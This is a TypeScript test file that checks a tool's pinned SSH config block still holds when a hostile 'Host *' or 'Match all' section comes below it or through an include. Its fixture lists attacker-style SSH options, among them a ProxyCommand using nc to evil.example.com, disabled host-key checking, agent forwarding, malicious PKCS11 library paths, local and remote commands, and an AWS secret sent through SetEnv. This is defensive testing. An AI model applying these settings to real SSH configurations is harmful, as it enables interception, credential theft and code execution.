// Every pin, proven with the real OpenSSH client: a hostile `Host *` (below the block, in a file
// included after it, and as a `Match all`) sets each option to what an attacker would want, and
// `ssh -G runcode.NAME` must still show our value; other hosts must resolve exactly as before.
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HostEntry } from './hostEntry.js';
import { setBlock } from './sshConfigBlock.js';
import { ACCUMULATING, FIXED_PINS, expectedEffective } from './sshConfigPins.js';
import { accumulatedExtras, parseSshG, pinViolations, runSshG } from './sshEffectiveConfig.js';
import { testHostEntry } from '../testing/hostEntry.js';

let dir: string;
beforeAll(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'runcode-pins-'));
});
afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

/** What an attacker (or a careless global section) would set, for every option we pin. */
const HOSTILE: Record<string, string> = {
  HostName: 'evil.example.com',
  Port: '2200',
  User: 'root',
  IdentityFile: '~/.ssh/id_personal',
  UserKnownHostsFile: '/tmp/evil_known_hosts',
  GlobalKnownHostsFile: '/tmp/evil_global_known_hosts',
  HostKeyAlias: 'evil',
  IdentitiesOnly: 'no',
  IdentityAgent: '/tmp/agent.sock',
  StrictHostKeyChecking: 'no',
  UpdateHostKeys: 'yes',
  ForwardAgent: 'yes',
  ForwardX11: 'yes',
  ForwardX11Trusted: 'yes',
  PermitLocalCommand: 'yes',
  LocalCommand: 'touch /tmp/runcode-pwned-local',
  ProxyCommand: 'nc evil.example.com 22',
  ProxyJump: 'evil.example.com',
  ControlMaster: 'auto',
  ControlPath: '/tmp/cm-%C',
  ControlPersist: 'yes',
  CanonicalizeHostname: 'always',
  KnownHostsCommand: '/bin/echo evil',
  VerifyHostKeyDNS: 'yes',
  CheckHostIP: 'yes',
  NoHostAuthenticationForLocalhost: 'yes',
  RemoteCommand: 'touch /tmp/runcode-pwned-remote',
  GatewayPorts: 'yes',
  Tunnel: 'point-to-point',
  AddKeysToAgent: 'yes',
  PKCS11Provider: '/tmp/evil-pkcs11.so',
  SecurityKeyProvider: '/tmp/evil-sk.so',
  PubkeyAuthentication: 'no',
  PreferredAuthentications: 'password',
  PasswordAuthentication: 'yes',
  KbdInteractiveAuthentication: 'yes',
  HostbasedAuthentication: 'yes',
  GSSAPIAuthentication: 'yes',
  GSSAPIDelegateCredentials: 'yes',
  SetEnv: 'AWS_SECRET_ACCESS_KEY=leaked',
  ConnectTimeout: '3600',
  ServerAliveInterval: '0',
  ServerAliveCountMax: '1000',
};
const hostileBody = Object.entries(HOSTILE)
  .map(([k, v]) => `  ${k} ${v}\n`)
  .join('');

const entry = (name: string): HostEntry => testHostEntry(name, '/state dir %h');

async function effective(file: string, host: string): Promise<string> {
  const r = await runSshG(host, { configPath: file });
  expect(r.code, r.stderr).toBe(0);
  return r.stdout;
}

const layouts: Record<string, (hostileFile: string) => string> = {
  'Host * below the block': () => `Host other.example.com\n  User me\n\nHost *\n${hostileBody}`,
  'Host * in a file included at the top': (f) => `Include "${f}"\n\nHost other.example.com\n  User me\n`,
  'Match all below the block': () => `Match all\n${hostileBody}`,
  'Host runcode.* below the block': () => `Host runcode.*\n${hostileBody}`,
};

describe('pins against a hostile section (real ssh -G)', () => {
  it('has a hostile value for every pinned option', () => {
    for (const pin of expectedEffective(entry('api'))) expect(HOSTILE, pin.keyword).toHaveProperty(pin.keyword);
    expect(FIXED_PINS.length).toBeGreaterThan(30);
  });

  it.each(Object.entries(layouts))('%s: ssh -G shows ours for every pin', async (name, layout) => {
    const hostileFile = path.join(dir, `hostile-${name.replace(/\W+/g, '-')}.conf`);
    await fs.writeFile(hostileFile, `Host *\n${hostileBody}`);
    const original = layout(hostileFile);
    const file = path.join(dir, `config-${name.replace(/\W+/g, '-')}`);
    const api = entry('api');
    const web = entry('web');
    // Without our block the hostile values are what OpenSSH would use: the test can fail.
    await fs.writeFile(file, original);
    expect(pinViolations(api, parseSshG(await effective(file, 'runcode.api'))).length).toBeGreaterThan(30);
    const beforeOther = await effective(file, 'other.example.com');

    await fs.writeFile(file, setBlock(original, [api, web]));
    for (const e of [api, web]) {
      const eff = parseSshG(await effective(file, `runcode.${e.name}`));
      expect(pinViolations(e, eff)).toEqual([]);
      // What cannot be pinned is visible, for doctor.
      expect(accumulatedExtras(e, eff).get('identityfile')).toEqual(['~/.ssh/id_personal']);
    }
    // The user's other hosts resolve exactly as before.
    expect(await effective(file, 'other.example.com')).toBe(beforeOther);
  });

  it('an unusual state dir (%, ", \\, $, spaces) resolves to the right files', async () => {
    const odd: HostEntry = {
      ...entry('odd'),
      identityFile: '/st%ate/a"b\\c$d e/keys/odd',
      knownHostsFile: '/st%ate/a"b\\c$d e/known_hosts',
    };
    const file = path.join(dir, 'config-odd');
    await fs.writeFile(file, setBlock('', [odd]));
    const eff = parseSshG(await effective(file, 'runcode.odd'));
    expect(pinViolations(odd, eff)).toEqual([]);
    expect(eff.get('userknownhostsfile')).toEqual(['/st%ate/a"b\\c$d e/known_hosts']);
  });
});

describe('parseSshG', () => {
  it('keeps every value of repeated keys, in order, and lowercases keys', () => {
    const eff = parseSshG('host x\r\nIdentityFile /a\nidentityfile /b c\n\nbare\nport 22\n');
    expect(eff.get('identityfile')).toEqual(['/a', '/b c']);
    expect(eff.get('port')).toEqual(['22']);
    expect(eff.get('host')).toEqual(['x']);
    expect(eff.has('bare')).toBe(false);
  });

  it('reports an unset or changed pin, and accepts a printed "none"', () => {
    const api = entry('api');
    const lines = expectedEffective(api)
      .filter((p) => p.effective !== null)
      .map((p) => `${p.g} ${p.effective}`);
    expect(pinViolations(api, parseSshG(lines.join('\n')))).toEqual([]);
    expect(pinViolations(api, parseSshG([...lines, 'proxycommand none'].join('\n')))).toEqual([]);
    const bad = lines.map((l) => (l.startsWith('forwardagent ') ? 'forwardagent yes' : l));
    expect(pinViolations(api, parseSshG([...bad, 'proxyjump evil'].join('\n')))).toEqual([
      { keyword: 'ForwardAgent', actual: 'yes', expected: 'no' },
      { keyword: 'ProxyJump', actual: 'evil', expected: null },
    ]);
    expect(pinViolations(api, parseSshG(lines.filter((l) => !l.startsWith('port ')).join('\n')))).toEqual([
      { keyword: 'Port', actual: undefined, expected: '2222' },
    ]);
  });

  it('lists accumulated extras but not our key or the locale SendEnv', () => {
    const api = entry('api');
    const eff = parseSshG(
      `identityfile ${expectedEffective(api).find((p) => p.g === 'identityfile')!.effective}\n` +
        'sendenv LANG LC_*\nsendenv AWS_*\ncertificatefile ~/.ssh/c.pub\nremoteforward 9 [l]:22\n',
    );
    expect([...accumulatedExtras(api, eff)]).toEqual([
      ['certificatefile', ['~/.ssh/c.pub']],
      ['sendenv', ['AWS_*']],
      ['remoteforward', ['9 [l]:22']],
    ]);
    expect(ACCUMULATING).toContain('localforward');
  });
});
